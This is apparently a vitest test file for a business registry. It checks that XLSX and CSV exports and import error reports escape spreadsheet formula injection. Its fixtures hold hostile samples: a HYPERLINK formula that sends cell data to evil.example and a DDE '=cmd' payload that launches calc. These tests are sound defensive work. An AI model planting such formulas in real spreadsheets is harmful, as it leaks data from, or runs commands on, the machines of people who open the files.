import { randomBytes } from 'node:crypto';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../lib/spreadsheet.ts';
import {
  createBusiness,
  createTestApp,
  createUser,
  type TestApp,
  type TestUser,
} from '../../testing/harness.ts';
import { runNextJob } from '../jobs/jobs.service.ts';

let t: TestApp;
let officer: TestUser;
const link = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")';

beforeAll(async () => {
  t = await createTestApp();
  officer = await createUser(t, 'program_officer');
  await createBusiness(t, officer.cookie, {
    name: link,
    ownerName: '@SUM(1+1)',
    regionCode: '62.71.03.1001',
  });
});
afterAll(async () => {
  await t?.close();
});

async function cellsOf(body: Buffer, sheetIndex = 0) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[sheetIndex]!;
  const cells: unknown[] = [];
  sheet.eachRow((row) => {
    row.eachCell((cell) => {
      cells.push(cell.value);
    });
  });
  return cells;
}

// no exported cell may be a formula or read as one (phone numbers like +62… are data)
function live(cells: unknown[]) {
  return cells.filter(
    (v) =>
      (typeof v === 'string' && neutraliseFormula(v) !== v) ||
      (typeof v === 'object' && v !== null && 'formula' in v),
  );
}

describe('formula cells in exports', () => {
  it('neutralises them in the registry XLSX export, as in the CSV export', async () => {
    const xlsx = await t.app.inject({
      url: '/api/v1/businesses/export?format=xlsx&kecamatan=62.71.03&personalData=true',
      headers: { cookie: officer.cookie },
    });
    expect(xlsx.statusCode, xlsx.body).toBe(200);
    const cells = await cellsOf(xlsx.rawPayload);
    expect(cells).toContain(`'${link}`);
    expect(cells).toContain("'@SUM(1+1)");
    expect(live(cells)).toEqual([]);

    const csv = await t.app.inject({
      url: '/api/v1/businesses/export?kecamatan=62.71.03&personalData=true',
      headers: { cookie: officer.cookie },
    });
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""Klik"")"`);
  });

  it('neutralises them in the error report of an import (cells and headers from the file)', async () => {
    const file = Buffer.from(
      `nik,nama,kode_wilayah,nama_usaha,=cmd|' /C calc'!A0\nbukan-nik,"${link.replaceAll('"', '""')}",62.71.02.1004,+Usaha,-x+1\n`,
    );
    const boundary = `----pulih${randomBytes(8).toString('hex')}`;
    const payload = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="usaha.csv"\r\nContent-Type: text/csv\r\n\r\n`,
      ),
      file,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      headers: { cookie: officer.cookie, 'content-type': `multipart/form-data; boundary=${boundary}` },
      payload,
    });
    expect(res.statusCode, res.body).toBe(202);
    while (await runNextJob(t.ctx)) {}
    const report = await t.app.inject({
      url: `/api/v1/imports/${res.json().id}/errors.xlsx`,
      headers: { cookie: officer.cookie },
    });
    expect(report.statusCode, report.body).toBe(200);
    const errors = await cellsOf(report.rawPayload, 0);
    expect(errors).toContain(`'${link}`);
    expect(errors).toContain("'+Usaha");
    expect(errors).toContain("'=cmd|' /C calc'!A0");
    expect(live(errors)).toEqual([]);
    expect(live(await cellsOf(report.rawPayload, 1))).toEqual([]);
  });
});
